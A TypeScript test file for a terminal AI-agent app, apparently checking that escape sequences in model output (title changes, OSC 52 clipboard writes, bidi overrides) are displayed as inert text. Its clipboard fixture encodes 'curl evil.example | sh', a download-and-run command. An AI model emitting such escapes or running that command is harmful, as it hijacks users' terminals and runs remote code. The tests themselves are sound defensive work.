/**
 * security #42.6 in the terminal app, driven in a real terminal (tmux) against the fake model
 * server: the model's escapes in an answer, a tool card or the approval box do not retitle the
 * pane, do not fill the clipboard (tmux's `set-clipboard on` takes OSC 52 into a buffer), and a
 * bidirectional override shows as `<U+202E>`. Every wait polls the screen with a deadline.
 */
import { describe, expect, it } from 'vitest'
import { streamResponse } from '../../test-support/fake-deepseek.js'
import { dshBin, tempHome } from '../../test-support/run-dsh.js'
import { Terminal, terminalTestBed } from '../../test-support/tmux.js'
import { noTitlePatch } from '../../test-support/patches.js'

const bed = terminalTestBed('terminal-text app tests')
const tmux = !bed.skip

const usage = { prompt_tokens: 1200, completion_tokens: 40 }
const patch = noTitlePatch()
const DSH = `${process.execPath} ${dshBin} --patch ${patch}`

/** A shell in a fresh terminal whose OSC 52 would fill a tmux buffer, and whose title is known. */
async function openApp(home: string, cwd: string): Promise<Terminal> {
  const terminal = Terminal.shell({ cwd, env: bed.env(home) })
  bed.keep(terminal)
  terminal.serverOption('set-clipboard', 'on')
  await terminal.waitFor(/^\$$/m, { what: 'the shell prompt' })
  terminal.type(`printf '\\033]2;before\\033\\\\'; clear; ${DSH}`)
  terminal.keys('Enter')
  await terminal.waitFor('Ask dsh to do something', { what: 'the input box', timeoutMs: 20_000 })
  expect(terminal.paneTitle()).toBe('before')
  expect(terminal.buffers()).toEqual([])
  return terminal
}

async function send(terminal: Terminal, text: string): Promise<void> {
  terminal.type(text)
  await terminal.waitFor(screen => screen.replace(/[│\s]+/g, '').includes(text.replace(/\s+/g, '')), { what: `the typed text "${text}"` })
  terminal.keys('Enter')
}

const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'

describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as text (security #42.6)', () => {
  it('an answer holding OSC 0, OSC 52 and U+202E neither retitles the pane nor sets a buffer, and shows them', async () => {
    const { home, cwd } = tempHome()
    bed.server.enqueue(streamResponse([
      { reasoning: 'thinking \x1b]2;pwned-reasoning\x07' },
      // The lone ESC ends one chunk, the rest of its OSC starts the next.
      { text: 'Here it is.\x1b' },
      { text: `]0;pwned-answer\x07 **bold** ${CLIPBOARD} report\u202Efdp.exe \`\x1b]2;pwned-code\x07\`` },
      { finish: 'stop', usage },
    ]))
    const terminal = await openApp(home, cwd)
    // Ctrl-O first, on an empty input: the step prints with its reasoning shown, drawn the same
    // way. A key typed and taken back first proves the app reads keys (raw mode) by then: the box
    // shows it after its prompt, which the terminal's own echo would not do.
    terminal.type('x')
    await terminal.waitFor(/│ ›\s+x\s+│/, { what: 'the typed key in the input box' })
    terminal.keys('BSpace')
    await terminal.waitFor('Ask dsh to do something', { what: 'the empty input box' })
    terminal.keys('C-o')
    await send(terminal, 'answer with escapes')
    const history = await terminal.waitFor(/── 1 step · /, { what: 'the turn summary', history: true })
    // The answer wraps at 80 columns: its rows read as one line.
    expect(history.replace(/\n/g, ' ')).toContain('Here it is.␛]0;pwned-answer␇ bold ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ report<U+202E>fdp.exe ␛]2;pwned-code␇')
    expect(terminal.paneTitle()).toBe('before')
    expect(terminal.buffers()).toEqual([])
    expect(history).toContain('thinking ␛]2;pwned-reasoning␇')
  })

  it('a tool card (command and output) and the approval box show escapes and overrides as text', async () => {
    const { home, cwd } = tempHome()
    const command = `printf 'o\\342\\200\\256p\\033]0;x\\007\\n' # \x1b]0;pwned-card\x07 \u202E`
    bed.server.enqueue(
      streamResponse([{ toolCall: { id: 'b1', name: 'bash', arguments: JSON.stringify({ command, description: 'print', sandbox_permissions: 'danger-full-access', justification: `needs it\x1b]52;c;eA==\x07 \u202Etxt` }) } }, { finish: 'tool_calls', usage }]),
      streamResponse([{ text: 'Ran it.' }, { finish: 'stop', usage }]),
    )
    const terminal = await openApp(home, cwd)
    await send(terminal, 'run the printer')
    const ask = await terminal.waitFor('Allow bash?', { what: 'the approval box' })
    expect(ask).toContain('needs it␛]52;c;eA==␇ <U+202E>txt')
    expect(ask).toContain('<U+202E>')
    expect(terminal.paneTitle()).toBe('before')
    expect(terminal.buffers()).toEqual([])
    terminal.keys('y')
    const history = await terminal.waitFor('Ran it.', { what: 'the answer after the tool', history: true })
    expect(history).toContain('# ␛]0;pwned-card␇ <U+202E>')
    // Command output is shown as a terminal leaves it: the title sequence dropped, the override named.
    expect(history).toMatch(/^\s+o<U\+202E>p$/m)
    expect(terminal.paneTitle()).toBe('before')
    expect(terminal.buffers()).toEqual([])
  })
})
